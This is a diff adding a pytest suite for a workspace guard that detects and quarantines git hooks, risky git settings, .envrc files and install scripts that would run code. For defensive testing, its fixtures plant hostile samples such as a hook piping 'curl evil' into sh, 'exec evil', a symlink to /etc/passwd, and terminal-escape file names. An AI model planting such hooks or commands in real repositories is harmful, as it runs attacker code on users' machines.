@@ -1,0 +1,1140 @@
+"""init/guard.py and its parts: what a machine would run is told, and nothing else; hostile trees included."""
+
+import json
+import os
+import shutil
+import socket
+import stat
+import subprocess
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from init import gitconfig, guard, guard_quarantine, guard_table, guard_views, guard_walk
+from init.guard import Change
+
+HOOK = "#!/bin/sh\ncurl evil | sh\n"
+RULES = (*guard_table.RULES, *guard_table.IN_REPOSITORY)
+
+needs_user = pytest.mark.skipif(os.geteuid() == 0, reason="root may read and write everything")
+
+
+@pytest.fixture(autouse=True)
+def _own_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Let git know nothing of the machine it runs on."""
+    for name in [name for name in os.environ if name.startswith("GIT_")]:
+        monkeypatch.delenv(name)
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
+    monkeypatch.setenv("GIT_CONFIG_SYSTEM", os.devnull)
+    for role in ("AUTHOR", "COMMITTER"):
+        monkeypatch.setenv(f"GIT_{role}_NAME", "tester")
+        monkeypatch.setenv(f"GIT_{role}_EMAIL", "tester")
+        monkeypatch.setenv(f"GIT_{role}_DATE", "2000-01-01T00:00:00Z")
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    folder = tmp_path / "workspace"
+    folder.mkdir()
+    return folder
+
+
+@pytest.fixture
+def project(root: Path) -> Path:
+    """Return a repository in the workspace, with a commit, a hook and a script."""
+    folder = root / "project"
+    folder.mkdir()
+    git(folder, "init", "-q", "-b", "main")
+    put(folder / "package.json", json.dumps({"name": "a", "scripts": {"test": "jest", "prepare": "husky"}}))
+    put(folder / "Makefile", "all:\n\techo\n")
+    put(folder / "src" / "main.py", "print()\n")
+    put(folder / ".git" / "hooks" / "pre-commit", "#!/bin/sh\nmake lint\n", 0o755)
+    commit(folder)
+    return folder
+
+
+def git(folder: Path, *arguments: str) -> str:
+    command = ["git", "-c", "protocol.file.allow=always", "-c", "core.hooksPath=/dev/null", *arguments]
+    return subprocess.run(command, cwd=folder, check=True, capture_output=True, text=True).stdout
+
+
+def commit(folder: Path) -> None:
+    git(folder, "add", "-A")
+    git(folder, "commit", "-q", "-m", "change")
+
+
+def put(path: Path, content: str | bytes = "", mode: int = 0o644) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(content.encode() if isinstance(content, str) else content)
+    path.chmod(mode)
+    return path
+
+
+def changes(root: Path, act: Callable[[], object]) -> tuple[Change, ...]:
+    before = guard.take(str(root))
+    act()
+    return guard.compare(before, guard.take(str(root)))
+
+
+def told(root: Path, act: Callable[[], object]) -> dict[str, tuple[str, tuple[str, ...]]]:
+    return {change.path: (change.what, change.lines) for change in changes(root, act)}
+
+
+# What is told
+
+
+NAMES_OF_TEXTS = [
+    (rule.reason, name) for rule in guard_table.RULES if rule.view == "text" for name in rule.names.split()
+]
+
+
+@pytest.mark.parametrize("where", ["", "a/b/"])
+@pytest.mark.parametrize(("reason", "pattern"), NAMES_OF_TEXTS)
+def test_every_name_of_the_table_is_found(root: Path, where: str, reason: str, pattern: str) -> None:
+    name = pattern.replace("**", "deep/er").replace("*", "any")
+    (change,) = changes(root, lambda: put(root / where / name, "run\n"))
+    assert (change.path, change.what, change.reason, change.lines) == (
+        where + name,
+        "added",
+        reason,
+        ("run",),
+    )
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.names.split()[0])
+def test_every_rule_is_written_for_people_and_known(rule: guard_table.Rule) -> None:
+    assert rule.reason
+    assert rule.names
+    assert rule.view in {"text", "hook", "pointer", "head", *guard_views._READERS}
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "lines"),
+    [
+        (".git/hooks/post-checkout", HOOK, ("#!/bin/sh", "curl evil | sh")),
+        (".git/hooks/sub/x", "a", ("a",)),
+        (".GIT/hooks/pre-push", "a", ("a",)),
+        (".Envrc", "a", ("a",)),
+        ("deep/er/.git/hooks/pre-push", "a", ("a",)),
+        (".git/config", "[core]\nfsmonitor = x\n[user]\nname = y\n", ("core.fsmonitor = x",)),
+        (".git/config", "[core] fsmonitor=x", ("core.fsmonitor = x",)),
+        (".git/config", "\ufeff[CORE]\r\nFsMonitor=x\\\r\ny\r\n", ("core.fsmonitor = xy",)),
+        (".git/config", '[core "fsmonitor\0"] x = y', ("core.fsmonitor = y",)),
+        (".git/config", "[filter.x]\nclean = y", ("filter.x.clean = y",)),
+        (".git/config", '[diff "A.b"]\ntextconv', ("diff.A.b.textconv",)),
+        (".git/config", "[core] editor = a\neditor = b", ("core.editor = a", "core.editor = b")),
+        (".git/config", "[core]\nfsmonitor = x\nbroken!", ("[core]", "fsmonitor = x", "broken!")),
+        (".git/config.worktree", "[core]\npager = x", ("core.pager = x",)),
+        (".git/modules/lib/a/HEAD", None, None),
+        (".git/info/attributes", "*.c diff=x\n*.h text\n", ("*.c diff=x",)),
+        (".git/rebase-merge/git-rebase-todo", "pick 1\nexec evil\n", ("exec evil",)),
+        (".gitattributes", "*.c  filter=x\n# no\n*.h -text eol=lf\n", ("*.c  filter=x",)),
+        (".gitmodules", '[submodule "a"]\npath = a\nurl = u\nupdate = !x', ("submodule.a.update = !x",)),
+        (".gitmodules", '[submodule "a"]\nurl = ext::x', ("submodule.a.url = ext::x",)),
+        ("a/package.json", '{"name": "x", "scripts": {"postinstall": "x"}}', ('scripts.postinstall = "x"',)),
+        ("package.json", '{"packageManager": "yarn@x"}', ('packageManager = "yarn@x"',)),
+        ("package.json", '{"scripts": ', ('{"scripts":',)),
+        ("package.json", "[" * 100_000, (f"{'[' * guard.MAX_WIDTH}… (100000 characters)",)),
+        ("composer.json", '{"scripts": {"post-install-cmd": "x"}}', ('scripts.post-install-cmd = "x"',)),
+        ("pyproject.toml", '[build-system]\nbackend-path = ["."]', ('backend-path = ["."]',)),
+        (
+            ".vscode/settings.json",
+            '{ // "x": 1,\n "editor.tabSize": 2, /* */ "git.path": "/x//y", "[c]": {"a.b": [1,],},}',
+            ('git.path = "/x//y"', "a.b = [1]"),
+        ),
+        (".vscode/settings.json", '{"a.b": "x", "a.b": "y"}', ('{"a.b": "x", "a.b": "y"}',)),
+    ],
+)
+def test_what_runs_is_shown(
+    root: Path, path: str, content: str | None, lines: tuple[str, ...] | None
+) -> None:
+    expected = {} if lines is None else {path: ("added", lines)}
+    assert told(root, lambda: put(root / path, content or "")) == expected
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        f"{section}.any.{'x' if key == '*' else key}"
+        for section, keys in guard_table.GIT_SETTINGS.items()
+        for key in sorted(keys)
+    ]
+    + [
+        "alias.x", "core.fsmonitor", "core.sshCommand", "core.editor", "core.pager", "core.askPass",
+        "core.hooksPath", "diff.external", "include.path", "credential.helper", "gpg.program", "pager.log",
+        "sequence.editor", "protocol.allow", "uploadpack.packObjectsHook", "interactive.diffFilter",
+        "url.a.b.insteadOf",
+    ],
+)  # fmt: skip
+def test_every_setting_of_the_table_is_found_as_git_writes_it(root: Path, project: Path, key: str) -> None:
+    value = "!ext::/../../../../.."  # that is risky for each of them
+    found = told(root, lambda: git(project, "config", key, value))
+    section, _, rest = key.partition(".")
+    sub, dot, last = rest.rpartition(".")
+    assert found == {
+        "project/.git/config": ("changed", (f"{section.lower()}.{sub}{dot}{last.lower()} = {value}",))
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "by_itself"),
+    [(".envrc", True), ("Makefile", False), ("setup.py", False), (".git/hooks/pre-push", True)],
+)
+def test_what_runs_by_habit_is_told_apart(root: Path, path: str, by_itself: bool) -> None:
+    (change,) = changes(root, lambda: put(root / path, "x"))
+    assert change.by_itself == by_itself
+
+
+@pytest.mark.parametrize(
+    ("scripts", "by_itself"),
+    [({"test": "x"}, False), ({"test": "x", "prepare": "y"}, True), ({"preinstall": "x"}, True)],
+)
+def test_scripts_run_by_itself_or_by_habit(root: Path, scripts: dict[str, str], by_itself: bool) -> None:
+    (change,) = changes(root, lambda: put(root / "package.json", json.dumps({"scripts": scripts})))
+    assert change.by_itself == by_itself
+
+
+def test_what_runs_by_itself_is_the_first_line_and_the_first_change(root: Path) -> None:
+    scripts = {**{f"run{number}": "x" for number in range(50)}, "postinstall": "evil"}
+
+    def act() -> None:
+        put(root / "Makefile", "all:\n")
+        put(root / "package.json", json.dumps({"scripts": scripts}))
+
+    first, second = changes(root, act)
+    assert (first.path, first.lines[0]) == ("package.json", 'scripts.postinstall = "evil"')
+    assert second.path == "Makefile"
+
+
+def test_only_the_new_lines_of_a_changed_file_are_shown(root: Path, project: Path) -> None:
+    makefile = project / "Makefile"
+    found = told(root, lambda: makefile.write_text("all:\n\tcurl evil\n\techo\n"))
+    assert found == {"project/Makefile": ("changed", ("    curl evil",))}
+
+
+def test_of_a_changed_package_only_the_new_script_is_shown(root: Path, project: Path) -> None:
+    content = json.loads((project / "package.json").read_text())
+    content["scripts"]["postinstall"] = "evil"
+    content["version"] = "2"
+    found = told(root, lambda: put(project / "package.json", json.dumps(content)))
+    assert found == {"project/package.json": ("changed", ('scripts.postinstall = "evil"',))}
+
+
+def test_lines_in_another_order_and_a_hook_made_executable_are_told(root: Path) -> None:
+    makefile, hook = put(root / "Makefile", "a\nb\n"), put(root / ".git/hooks/x", "a")
+
+    def act() -> None:
+        makefile.write_text("b\na\n")
+        hook.chmod(0o755)
+
+    assert told(root, act) == {
+        "Makefile": ("changed", ("is in another order, or shorter",)),
+        ".git/hooks/x": ("changed", ("has become executable",)),
+    }
+
+
+def test_a_file_that_becomes_a_link_of_the_same_content_is_told(root: Path) -> None:
+    path = put(root / ".envrc", "other")
+
+    def act() -> None:
+        path.unlink()
+        path.symlink_to("other")
+
+    assert told(root, act) == {".envrc": ("changed", ("is a link to other",))}
+
+
+def test_a_value_that_comes_back_into_force_is_told(root: Path, project: Path) -> None:
+    put(project / ".git" / "config", "[core]\neditor = bad\neditor = good\n")
+    found = told(root, lambda: put(project / ".git" / "config", "[core]\neditor = bad\n"))
+    assert found == {"project/.git/config": ("changed", ("core.editor = bad",))}
+
+
+# Where git would find it
+
+
+def test_a_repository_is_a_repository_whatever_its_name(root: Path) -> None:
+    def act() -> None:
+        git(root, "init", "-q", "--bare", "docs")
+        git(root / "docs", "config", "core.worktree", "../../outside")
+        put(root / "docs" / "hooks" / "post-checkout", "a")
+
+    assert told(root, act) == {
+        "docs/HEAD": ("added", ("makes a repository of the folder that it is in",)),
+        "docs/config": ("added", ("core.worktree = ../../outside",)),
+        "docs/hooks/post-checkout": ("added", ("a",)),
+    }
+
+
+@pytest.mark.parametrize(
+    "place", [".git/modules/lib", ".git/modules/a/b", ".git/worktrees/x", ".git/modules/a/modules/b"]
+)
+@pytest.mark.parametrize("marker", ["objects", "commondir"])
+def test_hooks_and_settings_of_submodules_and_worktrees_count(root: Path, place: str, marker: str) -> None:
+    def act() -> None:
+        put(root / place / "HEAD", "ref: refs/heads/main")
+        put(root / place / marker, ".")
+        put(root / place / "config", "[core]\nfsmonitor = x\n")
+        put(root / place / "hooks" / "pre-commit", "a")
+
+    parents = {path: lines for path, lines in told(root, act).items() if path.startswith(place)}
+    assert set(parents) == {f"{place}/config", f"{place}/hooks/pre-commit"}
+
+
+def test_a_git_file_leads_to_the_repository_that_it_names(root: Path) -> None:
+    put(root / "hidden" / "config", "[core]\neditor = old\n")
+
+    def act() -> None:
+        put(root / "project" / ".git", "gitdir: ../hidden\n")
+
+    assert told(root, act) == {"hidden/config": ("added", ("core.editor = old",))}
+
+
+@pytest.mark.parametrize("target", ["../../outside", "/outside", "../project/../../x", "link/x"])
+def test_a_git_file_that_leads_out_is_told(root: Path, target: str) -> None:
+    (root / "link").symlink_to("..")
+    (root / "project").mkdir()
+    (root / "project" / "link").symlink_to("../..")
+    found = told(root, lambda: put(root / "project" / ".git", f"gitdir: {target}\n"))
+    assert found == {"project/.git": ("added", (f"gitdir = {target}",))}
+
+
+def test_a_shared_repository_counts_where_commondir_says(root: Path, project: Path) -> None:
+    def act() -> None:
+        put(root / "shared" / "config", "[core]\nfsmonitor = x\n")
+        put(project / ".git" / "commondir", "../../shared")
+
+    assert told(root, act) == {"shared/config": ("added", ("core.fsmonitor = x",))}
+
+
+def test_a_git_file_of_a_repository_that_is_gone_is_nothing(root: Path) -> None:
+    put(root / "project" / ".git", "gitdir: ../gone\n")
+    assert guard.take(str(root)).unseen == ()
+
+
+def test_a_commondir_that_leads_out_is_told(root: Path, project: Path) -> None:
+    found = told(root, lambda: put(project / ".git" / "commondir", "/outside"))
+    assert found == {"project/.git/commondir": ("added", ("gitdir = /outside",))}
+
+
+def test_the_folder_of_hooks_path_is_relative_to_where_git_works(root: Path, project: Path) -> None:
+    git(project, "config", "core.hooksPath", "tools/hooks")
+    git(project, "worktree", "add", "-q", "../tree")
+    for folder in (project, root / "tree"):
+        put(folder / "tools" / "hooks" / "pre-commit", "make\n")
+
+    def act() -> None:
+        for folder in (project, root / "tree"):
+            put(folder / "tools" / "hooks" / "pre-commit", "make\nevil\n")
+
+    assert told(root, act) == {
+        "project/tools/hooks/pre-commit": ("changed", ("evil",)),
+        "tree/tools/hooks/pre-commit": ("changed", ("evil",)),
+    }
+
+
+def test_a_hooks_path_of_the_users_machine_is_found_by_its_end(root: Path, project: Path) -> None:
+    git(project, "config", "core.hooksPath", "/home/user/work/project/tools")
+    found = told(root, lambda: put(project / "tools" / "pre-commit", "evil"))
+    assert found == {"project/tools/pre-commit": ("added", ("evil",))}
+
+
+@pytest.mark.parametrize("key", ["include.path", "includeIf.gitdir:**.path"])
+def test_a_file_that_is_included_counts_and_so_does_what_it_names(
+    root: Path, project: Path, key: str
+) -> None:
+    git(project, "config", key, "../settings")
+    put(project / "settings", "[include]\npath = more\n")
+    put(project / "more", "[core]\nhooksPath = tools\n")
+
+    def act() -> None:
+        put(project / "more", "[core]\nhooksPath = tools\npager = evil\n")
+        put(project / "tools" / "pre-commit", "evil")
+
+    assert told(root, act) == {
+        "project/more": ("changed", ("core.pager = evil",)),
+        "project/tools/pre-commit": ("added", ("evil",)),
+    }
+
+
+@pytest.mark.parametrize("many", [3, 3000])
+def test_includes_in_a_circle_or_a_long_row_end(root: Path, project: Path, many: int) -> None:
+    git(project, "config", "include.path", "../c0")
+    for number in range(many):
+        put(project / f"c{number}", f"[include]\npath = c{(number + 1) % many}\n")
+    assert f"project/c{min(many, 1000) - 1}" in guard.take(str(root)).items
+
+
+@pytest.mark.parametrize(
+    "name", [".git", ".git/hooks", ".vscode", ".envrc", ".git/config", ".git/hooks/pre-push"]
+)
+@pytest.mark.parametrize("target", ["../../outside", "/outside", "nowhere"])
+def test_a_link_in_a_risky_place_is_told(root: Path, name: str, target: str) -> None:
+    def act() -> None:
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).symlink_to(target)
+
+    assert told(root, act) == {name: ("added", (f"is a link to {target}",))}
+
+
+@pytest.mark.parametrize("folder", [".claude/hooks", "prompts"])
+@pytest.mark.parametrize("name", ["setup.py", "head", "package.json", "tools/run", ".vscode/settings.json"])
+def test_all_of_a_folder_is_all_of_it_whatever_the_names(root: Path, folder: str, name: str) -> None:
+    put(root / "prompts" / "old", "a")
+    (root / ".claude").mkdir()
+    (root / ".claude" / "commands").symlink_to("../prompts")
+    (change,) = changes(root, lambda: put(root / folder / name, "{}\n"))
+    assert (change.path, change.lines, change.by_itself) == (f"{folder}/{name}", ("{}",), True)
+
+
+def test_what_a_link_leads_to_in_the_workspace_counts(root: Path) -> None:
+    for name in ("real/hooks/pre-push", "scripts/lint.sh", "editor/tasks.json", "repository/config"):
+        put(root / name, "[a]\n")
+    put(root / ".git" / "hooks" / "pre-commit").unlink()
+    (root / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/lint.sh")
+    (root / ".vscode").symlink_to("editor")
+    (root / "nested").mkdir()
+    (root / "nested" / ".git").symlink_to("../repository")
+
+    def act() -> None:
+        put(root / "scripts" / "lint.sh", "evil")
+        put(root / "editor" / "tasks.json", "evil")
+        put(root / "repository" / "config", "[core]\npager = evil\n")
+
+    assert told(root, act) == {
+        "scripts/lint.sh": ("changed", ("evil",)),
+        "editor/tasks.json": ("changed", ("evil",)),
+        "repository/config": ("changed", ("core.pager = evil",)),
+    }
+
+
+# What is not told
+
+
+def edit_sources(project: Path) -> None:
+    put(project / "src" / "main.py", "print(1)\n")
+    put(project / "README.md", "# x\n")
+    put(project / "AGENTS.md", "Be good.\n")
+    put(project / "src" / "head", "not a repository\n")
+
+
+def add_dependency(project: Path) -> None:
+    content = json.loads((project / "package.json").read_text())
+    put(
+        project / "package.json",
+        json.dumps({**content, "dependencies": {"x": "^1"}, "version": "3"}, indent=4),
+    )
+    put(project / "node_modules" / "x" / "package.json", '{"scripts": {"postinstall": "x"}}')
+    put(project / "node_modules" / "x" / ".vscode" / "tasks.json", "{}")
+
+
+def commit_and_branch(project: Path) -> None:
+    edit_sources(project)
+    commit(project)
+    git(project, "checkout", "-q", "-b", "feature")
+    git(project, "branch", "--set-upstream-to=main")
+    git(project, "tag", "v1")
+    git(project, "stash", "list")
+    git(project, "gc", "-q")
+
+
+def configure(project: Path) -> None:
+    git(project, "config", "user.name", "somebody")
+    git(project, "config", "core.fsmonitor", "true")
+    git(project, "config", "pager.log", "false")
+    git(project, "config", "core.autocrlf", "input")
+    git(project, "config", "branch.main.rebase", "true")
+
+
+def add_remote(project: Path) -> None:
+    git(project, "remote", "add", "origin", "https://example.invalid/a.git")
+    git(project, "remote", "add", "ssh", "git@example.invalid:a.git")
+
+
+def add_worktree(project: Path) -> None:
+    shutil.move(project / "Makefile", project.parent / "kept")
+    git(project, "worktree", "add", "-q", "--no-checkout", "../tree")
+
+
+def add_submodule(project: Path) -> None:
+    other = project.parent / "other"
+    git(project.parent, "init", "-q", "-b", "main", "other")
+    put(other / "a.py")
+    commit(other)
+    git(project, "submodule", "--quiet", "add", "../other", "libs/other")
+    commit(project)
+
+
+def rebase(project: Path) -> None:
+    git(project, "checkout", "-q", "-b", "side")
+    put(project / "src" / "side.py")
+    commit(project)
+    put(project / "src" / "main.py", "print(2)\n")
+    commit(project)
+    with pytest.raises(subprocess.CalledProcessError):
+        git(project, "-c", "sequence.editor=sed -i '1i break\\nbad'", "rebase", "-i", "HEAD~1")
+
+
+def edit_settings(project: Path) -> None:
+    put(
+        project / ".vscode" / "settings.json",
+        '{"editor.rulers": [80], "[python]": {"editor.tabSize": 4}} // x',
+    )
+    put(project / "pyproject.toml", '[build-system]\nrequires = ["x"]\n[project]\nname = "a"\n')
+    put(project / ".gitattributes", "* text=auto\n")
+
+
+def take_away(project: Path) -> None:
+    (project / "Makefile").unlink()
+    shutil.rmtree(project / ".git" / "hooks")
+    put(project / "package.json", '{"scripts": {"test": "jest"}}')
+
+
+def folders_with_names_of_files(project: Path) -> None:
+    put(project / "makefile" / "main.py")
+    put(project / ".envrc" / "main.py")
+    put(project / "package.json.d" / "main.py")
+    put(project / ".vscodex" / "tasks.json")
+
+
+def samples(project: Path) -> None:
+    put(project / ".git" / "hooks" / "pre-push.sample", HOOK, 0o755)
+
+
+HARMLESS = (
+    edit_sources, add_dependency, commit_and_branch, configure, add_remote, add_worktree, add_submodule,
+    rebase, edit_settings, take_away, folders_with_names_of_files, samples,
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("act", HARMLESS, ids=lambda act: act.__name__)
+def test_ordinary_work_is_not_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
+    assert told(root, lambda: act(project)) == {}
+
+
+def test_a_copy_of_a_repository_elsewhere_is_told(root: Path, project: Path) -> None:
+    found = told(root, lambda: shutil.copytree(project, root / "copy"))
+    assert set(found) == {"copy/.git/hooks/pre-commit", "copy/Makefile", "copy/package.json"}
+
+
+# Hostile trees
+
+NAMES = (b"new\nline", b"\xff\xfe", b" ", b"-rf", b"\x1b[2J", b"\\", b"*", b"**", "é\u202e".encode())
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_of_any_bytes_are_told_and_cannot_steer_a_terminal(root: Path, name: bytes) -> None:
+    text = os.fsdecode(name)
+
+    def act() -> None:
+        put(root / text / ".envrc", b"\x1b]0;x\x07\xff\n")
+        put(root / ".git" / "hooks" / text, "a")
+
+    found = changes(root, act)
+    assert {change.path for change in found} == {f"{text}/.envrc", f".git/hooks/{text}"}
+    assert all(line.isprintable() for line in guard.report(found).split("\n"))
+
+
+def special_files(folder: Path) -> Iterator[Path]:
+    folder.mkdir(parents=True, exist_ok=True)
+    os.mkfifo(folder / "fifo")
+    yield folder / "fifo"
+    with socket.socket(socket.AF_UNIX) as bound:
+        bound.bind(os.path.relpath(folder / "socket"))
+    yield folder / "socket"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [".envrc", ".git/config", ".git/hooks/x", "package.json", ".git", ".git/commondir", ".gitattributes"],
+)
+@pytest.mark.parametrize("kind", [0, 1], ids=["fifo", "socket"])
+def test_a_special_file_neither_hangs_nor_stops_the_search(
+    root: Path, tmp_path: Path, name: str, kind: int
+) -> None:
+    def act() -> None:
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        list(special_files(tmp_path / "made"))[kind].rename(root / name)
+        put(root / "z" / ".envrc", "a")
+
+    found = changes(root, act)
+    assert {change.path: change.lines for change in found} == {name: ("is not a file",), "z/.envrc": ("a",)}
+    outcomes = guard.quarantine(str(root), found, str(tmp_path / "q"))
+    assert {outcome.what for outcome in outcomes} == {"moved"}
+    assert guard.compare(EMPTY, guard.take(str(root))) == ()
+
+
+EMPTY = guard.Snapshot({}, ())
+
+
+@pytest.mark.parametrize("name", [".envrc", ".git", ".vscode", ".git/hooks", ".git/config", "HEAD"])
+def test_links_in_a_circle_end(root: Path, name: str) -> None:
+    put(root / "objects")
+    (root / name).parent.mkdir(parents=True, exist_ok=True)
+    (root / name).symlink_to(Path(name).name)
+    (root / "up").symlink_to(".")
+    assert not guard.take(str(root)).truncated
+
+
+def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
+    put(root / ".git", "gitdir: .")
+    put(root / "commondir", ".")
+    put(root / "HEAD", "ref: x")
+    put(root / "config", "[core]\nworktree = .\nhooksPath = .\n[include]\npath = config\n")
+    put(root / "hooks" / "x", "a")
+    found = guard.take(str(root))
+    assert {"hooks/x", "config", ".git"} <= set(found.items)
+    assert not found.truncated
+
+
+HOSTILE = {
+    ".vscode/settings.json": ['"\\"' * 40_000 + "\\", "/*" * 60_000, ",/*" * 40_000, ', "' * 40_000,
+                              "{" * 100_000],
+    ".git/config": [
+        "[a]\nb = " + '"\\"' * 40_000, "[alias]\n" + "a=x\n" * 50_000, '[a "' + "\\" * 100_000,
+        "[alias]\n" + "".join(f"a{number}=x\n" for number in range(20_000)),
+        "[include]\n" + "path=/a/b/c/d/e/f/g\n" * 10_000, "[include]\npath=/" + "a/" * 60_000,
+        "[core]\n" + "".join(f"hooksPath=a{number}\n" for number in range(10_000)),
+        "[core]\n" + "".join(f"worktree=a{number}\n" for number in range(10_000)),
+    ],
+    ".git/commondir": ["/" * 200_000, "a/" * 100_000, "\0"],
+    ".git": ["gitdir: " + "../" * 60_000, "gitdir: a\0b", ""],
+    ".gitattributes": [" filter" * 20_000, " filter=\n" * 20_000],
+    "package.json": ['{"scripts":' * 20_000, json.dumps({"scripts": {str(n): "x" for n in range(10_000)}})],
+    "pyproject.toml": ["backend-path\n" + "[a." * 50_000, "a = '\\'\n" + "a." * 100_000],
+    "Makefile": ["x\n" * 500_000, "x" * 1_000_000, "".join(f"{number}\n" for number in range(200_000))],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("name", "number"),
+    [(name, number) for name, contents in HOSTILE.items() for number in range(len(contents))],
+)
+def test_content_made_to_take_long_does_not(root: Path, tmp_path: Path, name: str, number: int) -> None:
+    put(root / name, HOSTILE[name][number])
+    start = time.process_time()
+    found = guard.compare(EMPTY, guard.take(str(root)))
+    assert len(guard.report(found)) < 5000
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    assert guard.compare(EMPTY, guard.take(str(root)))[:1] in ((), (unseen(root),))
+    assert time.process_time() - start < 20
+
+
+def unseen(root: Path) -> Change | None:
+    found = guard.compare(EMPTY, guard.take(str(root)))
+    return found[0] if found and found[0].what == "unseen" else None
+
+
+@pytest.mark.parametrize(
+    ("limit", "value"),
+    [("MAX_DEPTH", 2), ("MAX_FOLDERS", 3), ("MAX_ENTRIES", 3), ("MAX_ITEMS", 1), ("MAX_LEADS", 0)],
+)
+def test_where_a_limit_ends_the_search_it_says_so(
+    root: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
+) -> None:
+    put(root / "a" / "b" / "c" / "d" / ".envrc", "a")
+    put(root / ".envrc", "a")
+    (root / ".vimrc").symlink_to(".envrc")
+    assert not guard.take(str(root)).truncated
+    monkeypatch.setattr(guard_walk, limit, value)
+    found = guard.take(str(root))
+    assert found.truncated
+    *_, last = guard.compare(found, found)
+    assert last.what == "unseen"
+    assert "not searched" in guard.report([last])
+
+
+@pytest.mark.parametrize(("limit", "value"), [("MAX_FILE", 10), ("MAX_READ", 10)])
+def test_a_file_too_large_to_read_is_told_when_it_changes(
+    root: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
+) -> None:
+    monkeypatch.setattr(guard_walk, limit, value)
+    put(root / ".envrc", "a" * 100)
+    assert told(root, lambda: None) == {}
+    os.utime(root / ".envrc", (0, 0))
+    before = (root / ".envrc").stat()
+
+    def act() -> None:
+        put(root / ".envrc", "b" * 100)
+        os.utime(root / ".envrc", ns=(before.st_atime_ns, before.st_mtime_ns))
+
+    ((path, (what, (line,))),) = told(root, act).items()
+    assert (path, what, line) == (".envrc", "changed", "is too large to show, or not readable (100 bytes)")
+
+
+@needs_user
+def test_what_may_not_be_read_is_told(root: Path) -> None:
+    put(root / ".envrc", "a", 0)
+    put(root / "a" / ".envrc").parent.chmod(0)
+    try:
+        found = guard.compare(EMPTY, guard.take(str(root)))
+    finally:
+        (root / "a").chmod(0o700)
+    assert [(change.path, change.what) for change in found] == [(".envrc", "added"), ("", "unseen")]
+    assert found[1].lines == ("a",)
+
+
+def test_a_search_leaves_no_descriptor_open(root: Path, project: Path, tmp_path: Path) -> None:
+    put(project / ".envrc", "a")
+    before = os.listdir("/proc/self/fd")  # noqa: PTH208
+    found = guard.compare(EMPTY, guard.take(str(root)))
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    guard.accept(str(root), str(tmp_path / "q"))
+    assert os.listdir("/proc/self/fd") == before  # noqa: PTH208
+
+
+# The report
+
+ANY = st.text(st.characters())
+
+
+CHANGE = st.tuples(ANY, st.sampled_from(["added", "unseen"]), ANY, st.lists(ANY).map(tuple))
+
+
+@given(st.lists(CHANGE.map(lambda fields: Change(*fields))))
+def test_a_report_is_printable_whatever_it_quotes(found: list[Change]) -> None:
+    assert all(line.isprintable() for line in guard.report(found).split("\n"))
+
+
+def test_a_report_is_capped_and_says_what_it_leaves_out(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(guard_walk, "MAX_DEPTH", 1)
+
+    def act() -> None:
+        for number in range(guard.MAX_CHANGES + 3):
+            put(root / f"a{number:03}" / ".envrc", "x\n" * 5 + "".join(f"{n}\n" for n in range(100)))
+        put(root / "a" / "b" / "c")
+
+    report = guard.report(changes(root, act)).split("\n")
+    assert "and 3 more" in report
+    assert "    … and 97 more" in report
+    assert report[-2].startswith("unseen: not searched")
+    assert report[-1] == "    a/b"
+    assert len(report) < 250
+
+
+def test_the_form_of_a_report(root: Path) -> None:
+    def act() -> None:
+        put(root / ".envrc", "\x1b[2J\tcurl\n\n\nsh\n")
+        put(root / "Makefile", "y" * 1000)
+        put(root / "gradle" / "wrapper" / "x.jar", b"PK\0\0")
+
+    assert guard.report(changes(root, act)) == (
+        "added .envrc: direnv runs it on entering the folder\n"
+        "    \\x1b[2J    curl\n"
+        "    sh\n"
+        "added gradle/wrapper/x.jar: the build tool runs what it names\n"
+        "    is not text (4 bytes)\n"
+        "added Makefile: make runs it, if you ask for it\n"
+        f"    {'y' * guard.MAX_WIDTH}… (1000 characters)"
+    )
+
+
+def test_no_change_is_no_report() -> None:
+    assert guard.report(()) == ""
+
+
+# The quarantine
+
+
+def everything(root: Path) -> dict[str, tuple[int, bytes]]:
+    found = {}
+    for path in root.rglob("*"):
+        status = path.lstat()
+        if stat.S_ISLNK(status.st_mode):
+            found[str(path)] = (status.st_mode, os.fsencode(path.readlink()))
+        elif stat.S_ISREG(status.st_mode):
+            found[str(path)] = (status.st_mode, path.read_bytes())
+    return found
+
+
+def attack(project: Path) -> None:
+    put(project / ".git" / "hooks" / "pre-commit", HOOK, 0o755)
+    put(project / ".git" / "hooks" / "post\n\udcffx", HOOK, 0o755)
+    put(project / "Makefile", "all: evil\n", 0o600)
+    put(project / ".envrc", "evil")
+    (project / ".vimrc").symlink_to("/etc/passwd")
+    (project / "setup.py").symlink_to("src/main.py")
+    put(project / "package.json", '{"scripts": {"test": "evil"}, "version": "2"}')
+
+
+def test_what_is_taken_away_is_gone_and_comes_back_when_it_is_accepted(
+    root: Path, project: Path, tmp_path: Path
+) -> None:
+    calm, before = everything(root), guard.take(str(root))
+    attack(project)
+    attacked = everything(root)
+    found = guard.compare(before, guard.take(str(root)))
+    folder = tmp_path / "data" / "quarantine" / "1"
+    outcomes = guard.quarantine(str(root), found, str(folder))
+    assert {outcome.what for outcome in outcomes} == {"moved", "restored"}
+    assert everything(root) == calm
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
